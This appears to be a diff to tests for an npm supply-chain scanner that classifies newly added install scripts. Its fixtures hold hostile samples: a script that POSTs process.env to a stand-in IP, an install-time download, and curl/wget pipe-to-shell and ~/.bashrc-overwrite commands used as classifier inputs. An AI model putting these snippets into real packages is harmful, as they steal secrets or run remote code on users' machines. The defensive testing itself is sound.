@@ -11,7 +11,7 @@ import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vite
 import { scanTarget, type ScanOptions } from '../src/scan.js';
 import { ResultCache } from '../src/cache/results.js';
 import { fetchPackument } from '../src/registry/packument.js';
-import { diffReleases, previousVersion } from '../src/registry/release-diff.js';
+import { classifyAddedScript, diffReleases, previousVersion } from '../src/registry/release-diff.js';
 import { manifestConfusion } from '../src/registry/manifest-confusion.js';
 import type { Packument, VersionMeta } from '../src/registry/packument.js';
 import { registrySignals } from '../src/registry/signals.js';
@@ -67,6 +67,15 @@ const FIXTURES: FixturePackage[] = [
       ...(i ? { 'setup.js': 'console.log("thanks for installing");\n' } : {}),
     },
   })),
+  // A native addon whose minor release adds the build idiom: check for a prebuilt binary, else compile.
+  // Its check only looks into its own folder (clean); the twins' checks download or send the
+  // environment away (the hijack shape hiding behind the same command).
+  ...addonReleases('adds-a-build', "const fs = require('fs');\nconst path = require('path');\nconst dir = path.join(__dirname, '..', 'prebuilds', process.platform + '-' + process.arch);\nprocess.exit(fs.existsSync(dir) ? 0 : 1);\n"),
+  ...addonReleases(
+    'build-that-downloads',
+    "const fs = require('fs');\nconst https = require('https');\nconst out = fs.createWriteStream(__dirname + '/../prebuilds/addon.node');\nhttps.get('https://prebuilds.example.invalid/addon.node', (res) => res.pipe(out));\n",
+  ),
+  ...addonReleases('build-that-sends-env', "require('https').request({ host: '203.0.113.7', method: 'POST', path: '/c' }).end(JSON.stringify(process.env));\nprocess.exit(1);\n"),
   // Nothing new for months.
   ...(['2.0.0', '2.0.1'] as const).map((version, i) => ({
     name: 'steady',
@@ -117,6 +126,25 @@ const FIXTURES: FixturePackage[] = [
     files: { 'package.json': pj({ name: 'acme-auth', version: '99.10.9', main: 'index.js', scripts: { preinstall: 'node setup.js' } }), 'index.js': 'module.exports = 1;\n', 'setup.js': PING },
   },
 ];
+
+/** 1.0.0 ships binding.gyp and no install script; 1.1.0 adds `node scripts/check.js || node-gyp rebuild`. */
+function addonReleases(name: string, check: string): FixturePackage[] {
+  const gyp = JSON.stringify({ targets: [{ target_name: 'addon', sources: ['src/addon.cc'] }] });
+  return (['1.0.0', '1.1.0'] as const).map((version, i) => ({
+    name,
+    version,
+    time: iso(Date.parse('2024-01-01') + i * 60 * DAY),
+    npmUser: alice,
+    repository: `example/${name}`,
+    files: {
+      'package.json': pj({ name, version, main: 'index.js', ...(i ? { scripts: { install: 'node scripts/check.js || node-gyp rebuild' } } : {}) }),
+      'index.js': "module.exports = require('./build/Release/addon.node');\n",
+      'binding.gyp': gyp,
+      'src/addon.cc': '// native code\n',
+      ...(i ? { 'scripts/check.js': check } : {}),
+    },
+  }));
+}
 
 let registry: TestRegistry;
 let tmp: string;
@@ -172,6 +200,32 @@ describe('release diff', () => {
     expect(of(r, 'release-diff')).toContainEqual(expect.objectContaining({ severity: 'high', signals: ['registry:new-install-script'], message: expect.stringContaining('minor release') }));
     expect(of(r, 'release-diff').some((f) => f.signals?.includes('registry:lost-provenance'))).toBe(false);
     expect(r.verdict).toBe('suspicious');
+  });
+
+  test('a minor release that adds the native build idiom, its check looking only at its own folder, is reported and clean', async () => {
+    const r = await scanTarget('adds-a-build@1.1.0', options());
+    expect(of(r, 'release-diff')).toContainEqual(
+      expect.objectContaining({ severity: 'medium', signals: ['registry:new-build-script'], message: expect.stringMatching(/^install script added in a minor release \(1\.0\.0 -> 1\.1\.0\): builds a native addon \(binding\.gyp; install-time code, from scripts\/check\.js, has no network/) }),
+    );
+    expect(r.findings.some((f) => f.signals?.includes('registry:new-install-script'))).toBe(false);
+    expect(r.verdict).toBe('clean');
+    expect(r.score).toBeLessThan(35);
+    expect(r.reasons).toContainEqual(expect.stringContaining('builds a native addon'));
+  });
+
+  test('the same command whose check downloads a binary keeps the full weight of a new install script: suspicious', async () => {
+    const r = await scanTarget('build-that-downloads@1.1.0', options());
+    expect(of(r, 'release-diff')).toContainEqual(
+      expect.objectContaining({ severity: 'high', signals: ['registry:new-install-script'], message: expect.stringMatching(/node scripts\/check\.js \|\| node-gyp rebuild \(a native build, but install-time code has network access \(scripts\/check\.js:\d+\)\)$/) }),
+    );
+    expect(['suspicious', 'malicious']).toContain(r.verdict);
+    expect(r.reasons[0]).toMatch(/install script new in this release.*install-time code/);
+  });
+
+  test('the same command whose check posts the environment away is malicious', async () => {
+    const r = await scanTarget('build-that-sends-env@1.1.0', options());
+    expect(of(r, 'release-diff')).toContainEqual(expect.objectContaining({ severity: 'high', signals: ['registry:new-install-script'] }));
+    expect(r.verdict).toBe('malicious');
   });
 
   test('a first release has nothing to compare with', async () => {
@@ -433,10 +487,53 @@ describe('diffReleases and manifestConfusion (pure)', () => {
     const cur: VersionMeta = { scripts: { postinstall: 'node b.js', install: 'node-gyp rebuild' } };
     const out = diffReleases(packument({ '1.0.0': prev, '1.1.0': cur }, {}), { version: '1.1.0', meta: cur }, { version: '1.0.0', meta: prev }, 'not fetched');
     expect(out.map((f) => `${f.severity} ${f.signals?.join(',') ?? '-'} ${f.message}`)).toEqual([
-      expect.stringMatching(/^low - install script added in a minor release \(1\.0\.0 -> 1\.1\.0\)/),
+      'low registry:new-build-script install script added in a minor release (1.0.0 -> 1.1.0): builds a native addon (node-gyp): node-gyp rebuild',
       expect.stringMatching(/^medium - postinstall script changed in 1\.0\.0 -> 1\.1\.0: was "node a\.js", now "node b\.js"/),
       expect.stringMatching(/^info analysis-gap 1\.0\.0 could not be analyzed \(not fetched\)/),
     ]);
+  });
+
+  test('an added install script is a native build only when every command is a build step and its install-time code reaches nothing', () => {
+    const quiet: Finding[] = [{ rule: 'install-scripts', severity: 'low', message: 'install script runs scripts/check.js on every install', file: 'package.json', reach: 'install', signals: ['install-script'] }];
+    const net: Finding = { rule: 'network', severity: 'info', message: 'network access via https.get', file: 'scripts/check.js', line: 3, reach: 'install', signals: ['sink:network'] };
+    const meta: VersionMeta = { dependencies: { 'prebuild-install': '^7.0.0', 'node-gyp-build': '^4.0.0' }, scripts: { 'build-release': 'node-gyp rebuild --release', 'build-debug': 'node build.js', 'loop': 'npm run loop' } };
+    const kind = (command: string, findings: readonly Finding[] = quiet) => classifyAddedScript(command, { findings, meta }).kind;
+    expect(kind('node-gyp rebuild')).toBe('native-build');
+    expect(kind('prebuild-install -r napi || node-gyp rebuild')).toBe('native-build');
+    expect(kind('node scripts/check.js || node-gyp rebuild')).toBe('native-build');
+    expect(kind('node ./install.js || node-gyp-build || exit 0')).toBe('native-build');
+    expect(kind('node-gyp rebuild || echo "optional build failed"')).toBe('native-build');
+    expect(kind('prebuild-install || npm run build-release')).toBe('native-build');
+    expect(kind('husky install')).toBe('tool');
+    // Code we cannot vouch for: a plain node script, a capability in install-time code, code not analyzed.
+    expect(kind('node setup.js')).toBe('code');
+    expect(kind('node scripts/check.js || node-gyp rebuild', [...quiet, net])).toBe('code');
+    expect(classifyAddedScript('node scripts/check.js || node-gyp rebuild', { findings: [...quiet, net], meta })).toEqual({ kind: 'code', why: 'install-time code has network access (scripts/check.js:3)' });
+    expect(classifyAddedScript('node scripts/check.js || node-gyp rebuild', {})).toEqual({ kind: 'code', why: 'install-time code not analyzed' });
+    expect(kind('node scripts/check.js || node-gyp rebuild', [{ ...quiet[0]!, severity: 'medium', message: 'install script runs scripts/check.js, which is not in the package' }])).toBe('code');
+    // Commands around the build tool, or a build tool told to fetch from anywhere.
+    expect(kind('node-gyp rebuild && curl -s https://x.invalid/a | sh')).toBe('code');
+    expect(kind('node-gyp rebuild; sh setup.sh')).toBe('code');
+    expect(kind('node-gyp rebuild && node scripts/copy.js', [...quiet, net])).toBe('code');
+    expect(kind('./node-gyp rebuild')).toBe('code');
+    expect(kind('NODE_OPTIONS=--require=./hook.js node-gyp rebuild')).toBe('code');
+    expect(kind('npx node-gyp rebuild')).toBe('code');
+    expect(kind('node -e "require(\'./x\')" || node-gyp rebuild')).toBe('code');
+    expect(kind('node --require ./hook.js check.js || node-gyp rebuild')).toBe('code');
+    expect(kind('node ../other/check.js || node-gyp rebuild')).toBe('code');
+    expect(kind('prebuild-install --download https://203.0.113.5/addon.tar.gz')).toBe('code');
+    // A build tool the release does not depend on is some other dependency's bin of that name.
+    expect(classifyAddedScript('cmake-js compile', { findings: quiet, meta }).kind).toBe('code');
+    expect(classifyAddedScript('cmake-js compile', { findings: quiet, meta: { dependencies: { 'cmake-js': '^7' } } }).kind).toBe('native-build');
+    // npm run: only build tools there (install-time reach does not follow it into node files), no loops.
+    expect(kind('prebuild-install || npm run build-debug')).toBe('code');
+    expect(kind('prebuild-install || npm run loop')).toBe('code');
+    expect(kind('prebuild-install || npm run missing')).toBe('code');
+    expect(kind('prebuild-install || npm run build-release -- --target=x')).toBe('code');
+    expect(kind('node-gyp rebuild > ~/.bashrc')).toBe('code');
+    expect(kind('exit $(curl -s https://x.invalid)')).toBe('code');
+    expect(kind('node-gyp rebuild || echo `node setup.js`', [...quiet, net])).toBe('code');
+    expect(kind('node-gyp rebuild || echo $(wget -q -O- https://x.invalid)')).toBe('code');
   });
 
   test("manifest confusion follows npm's publish-time normalization", () => {
